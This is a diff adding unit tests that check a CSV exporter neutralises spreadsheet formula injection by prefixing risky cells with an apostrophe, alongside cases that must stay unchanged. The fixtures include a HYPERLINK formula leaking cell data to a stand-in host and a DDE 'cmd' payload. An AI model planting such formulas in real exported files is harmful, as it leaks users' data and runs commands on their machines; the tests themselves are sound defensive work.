@@ -25,6 +25,49 @@ describe('CSV', () => {
   });
 });
 
+describe('CSV cells a spreadsheet could run (OWASP CSV injection)', () => {
+  // [cell as in the data, cell as a spreadsheet reads it from the CSV]
+  const table: [string, string][] = [
+    ['=HYPERLINK("https://evil.example/?x="&A1,"点击")', `'=HYPERLINK("https://evil.example/?x="&A1,"点击")`],
+    ['=1+1', "'=1+1"],
+    ['+1+1', "'+1+1"],
+    ['-1+1', "'-1+1"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    ['  =1+1', "'  =1+1"],
+    ['\u3000=1+1', "'\u3000=1+1"],
+    ['＝HYPERLINK("https://evil.example")', `'＝HYPERLINK("https://evil.example")`],
+    ['＋1＋1', "'＋1＋1"],
+    ['－1', "'－1"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    ['+86 138 0000 0000', "'+86 138 0000 0000"],
+    ['-', "'-"],
+    ['-500\n=1+1', "'-500\n=1+1"],
+    // Plain numbers and negative amounts stay numbers.
+    ['-500', '-500'],
+    ['+86', '+86'],
+    ['3.5', '3.5'],
+    ['-0.25', '-0.25'],
+    ['-1,000.50', '-1,000.50'],
+    ['1e-5', '1e-5'],
+    ['500', '500'],
+    // Text that merely contains the characters later on is left alone.
+    ['罚款 -500 元', '罚款 -500 元'],
+    ['a=b', 'a=b'],
+    ['test@example.gov.cn', 'test@example.gov.cn'],
+    ['示防罚决〔2025〕1号', '示防罚决〔2025〕1号'],
+    ['', ''],
+  ];
+  it.each(table)('%j is written as %j', (cell, read) => {
+    expect(parseCsv(toCsv(['编码', '备注'], [['X-1', cell]]))).toEqual([['编码', '备注'], ['X-1', read]]);
+  });
+  it('neutralises a header cell too and quotes every prefixed cell', () => {
+    expect(toCsv(['=x', '编码'], [['-500', '@x']])).toBe(`${BOM}"'=x",编码\r\n-500,"'@x"`);
+  });
+});
+
 describe('columns from a schema', () => {
   const schema = z.object({
     code: label(z.string(), '编码'),
